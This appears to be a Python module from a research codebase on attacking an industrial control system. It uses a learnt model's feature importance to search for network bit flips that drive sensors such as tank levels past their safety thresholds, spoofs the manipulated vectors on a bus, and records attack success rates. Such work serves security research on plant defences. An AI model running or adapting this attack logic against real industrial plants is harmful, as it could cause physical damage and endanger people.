"""Attack discovery by importance-ranked combinational bit flipping.

A learnt model ranks the 2752 feature bits by importance.  Discovery walks
subsets of the most important bits in a widening window, predicts the
sensor under each manipulation and keeps the one whose prediction is
closest to a safety threshold.  Execution sustains that manipulation on
the live bus and watches the historian.
"""

from __future__ import annotations

import json
import time
from dataclasses import dataclass, field
from itertools import combinations
from pathlib import Path
from typing import Callable, Iterator, Sequence

import numpy as np

from .netbus import Bus, from_hex, to_hex
from .sensors import SafetyRange, is_level

F_MAX = 1e9
DEFAULT_MAX_CANDIDATES = 20_000
_BATCH = 2048


class NoCandidate(RuntimeError):
    pass


@dataclass(frozen=True)
class Objective:
    sensor_id: str
    low: float
    high: float
    flow_low_excluded: bool = False

    def __post_init__(self):
        if not self.low < self.high:
            raise ValueError("need low < high")

    @classmethod
    def from_range(cls, r: SafetyRange, *, overflow_only: bool = False) -> "Objective":
        """Objective for a sensor's safety range; an uncounted low is ignored."""
        return cls(r.sensor_id, r.low, r.high, overflow_only or not r.low_counted)


def objective_values(v, obj: Objective) -> np.ndarray:
    """Vectorised objective: (H - L) / distance to the nearest counted threshold."""
    v = np.asarray(v, dtype=float)
    lo, hi = obj.low, obj.high
    if obj.flow_low_excluded:
        d = np.where(v < hi, hi - v, 0.0)
    else:
        inside = (v >= lo) & (v <= hi)
        d = np.where(inside, np.minimum(v - lo, hi - v), 0.0)
    with np.errstate(divide="ignore"):
        f = np.where(d > 0, (hi - lo) / np.where(d > 0, d, 1.0), F_MAX)
    return np.minimum(f, F_MAX)


def objective_eval(v: float, obj: Objective) -> float:
    return float(objective_values(v, obj))


def importance_order(importance: np.ndarray) -> np.ndarray:
    """Indices by descending importance, lower index first on ties."""
    return np.argsort(-np.asarray(importance, dtype=float), kind="stable")


def flip_sets(order: Sequence[int], n: int) -> Iterator[tuple[int, ...]]:
    """Size-n subsets of a growing prefix of ``order``, each exactly once.

    At window k (from n - 1 upward) the new subsets are those that use
    ``order[k]``; all others were produced at an earlier window.
    """
    order = [int(i) for i in order]
    if not 1 <= n <= len(order):
        raise ValueError(f"n must be in [1, {len(order)}]")
    for k in range(n - 1, len(order)):
        for rest in combinations(order[:k], n - 1):
            yield rest + (order[k],)


@dataclass
class Discovery:
    vector: np.ndarray
    flipped: tuple[int, ...]
    f_max: float
    predicted: float
    evaluated: int


def _flip_rows(p_o: np.ndarray, sets: list[tuple[int, ...]]) -> np.ndarray:
    X = np.tile(p_o, (len(sets), 1))
    idx = np.asarray(sets, dtype=np.int64)
    rows = np.repeat(np.arange(len(sets)), idx.shape[1])
    X[rows, idx.ravel()] ^= 1
    return X


class PredictionCache:
    """Model predictions of enumerated manipulations, keyed by (p_o, n).

    Only valid for one model and enumeration budget; discovery without a
    timeout is a pure function of them, so cached results are exact.
    """

    def __init__(self, model, max_candidates: int = DEFAULT_MAX_CANDIDATES):
        self.model = model
        self.max_candidates = max_candidates
        self._store: dict[tuple[bytes, int], tuple[np.ndarray, np.ndarray]] = {}

    def get(self, p_o: np.ndarray, n: int):
        key = (np.asarray(p_o, dtype=np.uint8).tobytes(), n)
        if key not in self._store:
            self._store[key] = _enumerate(self.model, p_o, n, self.max_candidates, None)
        return self._store[key]


def _enumerate(model, p_o, n, max_candidates, deadline):
    p_o = np.asarray(p_o, dtype=np.uint8)
    order = importance_order(model.feature_importance())
    sets_out, preds = [], []
    batch: list[tuple[int, ...]] = []
    count = 0

    def flush():
        if batch:
            preds.append(np.atleast_1d(model.predict(_flip_rows(p_o, batch))))
            sets_out.extend(batch)
            batch.clear()

    for s in flip_sets(order, n):
        if count >= max_candidates or (deadline is not None and time.monotonic() >= deadline):
            break
        batch.append(s)
        count += 1
        if len(batch) == _BATCH:
            flush()
    flush()
    if not sets_out:
        return np.zeros((0, n), dtype=np.int64), np.zeros(0)
    return np.asarray(sets_out, dtype=np.int64), np.concatenate(preds).astype(float)


def discover(model, p_o, n: int, obj: Objective, *, current: float | None = None,
             max_candidates: int = DEFAULT_MAX_CANDIDATES, timeout: float | None = None,
             cache: PredictionCache | None = None) -> Discovery:
    """Best manipulation of ``p_o`` flipping exactly n bits.

    For tank levels the model predicts a change, so ``current`` (the
    reading when p_o was sniffed) is added before scoring.  The first
    candidate reaching the highest objective wins.
    """
    p_o = np.asarray(p_o, dtype=np.uint8)
    if not 1 <= n <= p_o.size:
        raise ValueError(f"n must be in [1, {p_o.size}]")
    if is_level(obj.sensor_id) and current is None:
        raise ValueError("tank-level discovery needs the current reading")
    if cache is not None and timeout is None and cache.max_candidates == max_candidates:
        sets, preds = cache.get(p_o, n)
    else:
        deadline = None if timeout is None else time.monotonic() + timeout
        sets, preds = _enumerate(model, p_o, n, max_candidates, deadline)
    if len(sets) == 0:
        raise NoCandidate("limits exhausted before any candidate was evaluated")
    values = preds + current if is_level(obj.sensor_id) else preds
    f = objective_values(values, obj)
    best = int(np.argmax(f))
    flipped = tuple(sorted(int(i) for i in sets[best]))
    vector = p_o.copy()
    vector[list(flipped)] ^= 1
    return Discovery(vector, flipped, float(f[best]), float(values[best]), len(sets))


def random_manipulation(p_o, n: int, rng: np.random.Generator) -> tuple[np.ndarray, tuple[int, ...]]:
    p_o = np.asarray(p_o, dtype=np.uint8)
    bits = tuple(sorted(int(b) for b in rng.choice(p_o.size, size=n, replace=False)))
    v = p_o.copy()
    v[list(bits)] ^= 1
    return v, bits


def default_attack_horizon(sensor_id: str) -> int:
    """Ticks an attack is sustained: 2400 for tank levels, 10 otherwise."""
    return 2400 if is_level(sensor_id) else 10


@dataclass
class AttackResult:
    sensor_id: str
    base: np.ndarray
    flipped: tuple[int, ...]
    f_max: float
    success: bool
    ticks_to_breach: int | None
    trajectory: list[float] = field(default_factory=list)

    @property
    def n_flips(self) -> int:
        return len(self.flipped)

    @property
    def vector(self) -> np.ndarray:
        v = np.asarray(self.base, dtype=np.uint8).copy()
        v[list(self.flipped)] ^= 1
        return v

    def to_dict(self, trajectory: bool = True) -> dict:
        d = {"sensor": self.sensor_id, "flips": self.n_flips, "indices": list(self.flipped),
             "f_max": self.f_max, "success": self.success,
             "ticks_to_breach": self.ticks_to_breach, "base": to_hex(self.base)}
        if trajectory:
            d["trajectory"] = self.trajectory
        return d

    @classmethod
    def from_dict(cls, d: dict) -> "AttackResult":
        if d["flips"] != len(d["indices"]):
            raise ValueError("flip count does not match indices")
        return cls(d["sensor"], from_hex(d["base"]), tuple(d["indices"]), float(d["f_max"]),
                   bool(d["success"]), d["ticks_to_breach"], list(d.get("trajectory", [])))


def execute(bus: Bus, vector, base, safety: SafetyRange, horizon: int | None = None, *,
            f_max: float = 0.0, stop_on_breach: bool = True) -> AttackResult:
    """Spoof ``vector`` on every tick of the horizon and watch the target sensor.

    ``base`` is the sniffed vector it was derived from.  Success is the
    first reading at or past a counted safety threshold.
    """
    sensor = safety.sensor_id
    horizon = default_attack_horizon(sensor) if horizon is None else horizon
    vector = np.asarray(vector, dtype=np.uint8)
    base = np.asarray(base, dtype=np.uint8)
    positions = np.flatnonzero(vector != base)
    trajectory: list[float] = []
    breach = None
    for t in range(1, horizon + 1):
        bus.hold(vector, 1)
        reading = bus.observe(sensor)
        trajectory.append(reading)
        if safety.breached(reading):
            breach = t
            if stop_on_breach:
                break
    return AttackResult(sensor, base, tuple(int(i) for i in positions), f_max,
                        breach is not None, breach, trajectory)


Chooser = Callable[[np.ndarray, float], tuple[np.ndarray, float]]


def model_chooser(model, n: int, obj: Objective, *,
                  max_candidates: int = DEFAULT_MAX_CANDIDATES) -> Chooser:
    cache = PredictionCache(model, max_candidates)

    def choose(p_o, current):
        d = discover(model, p_o, n, obj, current=current, max_candidates=max_candidates,
                     cache=cache)
        return d.vector, d.f_max
    return choose


def random_chooser(n: int, rng: np.random.Generator) -> Chooser:
    def choose(p_o, current):
        return random_manipulation(p_o, n, rng)[0], 0.0
    return choose


def run_trials(snapshots: Sequence[Bus], safety: SafetyRange, choose: Chooser, trials: int,
               horizon: int | None = None) -> list[AttackResult]:
    """One attack per trial, each from a fresh fork of a normal-operation snapshot.

    Trial i uses snapshot i mod len(snapshots), sniffs p_o there, reads
    the sensor, picks a manipulation and executes it.
    """
    if trials < 1:
        raise ValueError("trials must be >= 1")
    if not snapshots:
        raise ValueError("need at least one snapshot")
    results = []
    for i in range(trials):
        bus = snapshots[i % len(snapshots)].fork()
        p_o = bus.sniff_vector()
        current = bus.observe(safety.sensor_id)
        vector, f_max = choose(p_o, current)
        results.append(execute(bus, vector, p_o, safety, horizon, f_max=f_max))
    return results


def success_rate(results: Sequence[AttackResult]) -> float:
    """Percentage of successful attacks."""
    if not results:
        raise ValueError("no results")
    return 100.0 * sum(r.success for r in results) / len(results)


def normal_snapshots(bus: Bus, count: int, rng: np.random.Generator,
                     span: int = 6000) -> list[Bus]:
    """Forks taken at random ticks while the plant runs normally for ~``span`` ticks."""
    if count < 1:
        raise ValueError("count must be >= 1")
    gaps = rng.integers(1, max(2, 2 * span // count), size=count)
    out = []
    for gap in gaps:
        bus.idle(int(gap))
        out.append(bus.fork())
    return out


def save_suite(path: str | Path, results: Sequence[AttackResult], trajectory: bool = True) -> None:
    """JSON lines, one attack per line; trajectories can be left out to save space."""
    with open(path, "w") as fh:
        for r in results:
            fh.write(json.dumps(r.to_dict(trajectory), sort_keys=True) + "\n")


def load_suite(path: str | Path) -> list[AttackResult]:
    out = []
    with open(path) as fh:
        for lineno, line in enumerate(fh, start=1):
            if not line.strip():
                continue
            try:
                out.append(AttackResult.from_dict(json.loads(line)))
            except (ValueError, KeyError) as exc:
                raise ValueError(f"{path}:{lineno}: {exc}") from None
    return out


def summary_table(rates: dict[str, dict[str, float]], sensors: Sequence[str]) -> str:
    """CSV with one row per model/strategy and one column per sensor."""
    lines = ["row," + ",".join(sensors)]
    for label, row in rates.items():
        cells = [f"{row[s]:.1f}" if s in row else "" for s in sensors]
        lines.append(f"{label}," + ",".join(cells))
    return "\n".join(lines) + "\n"
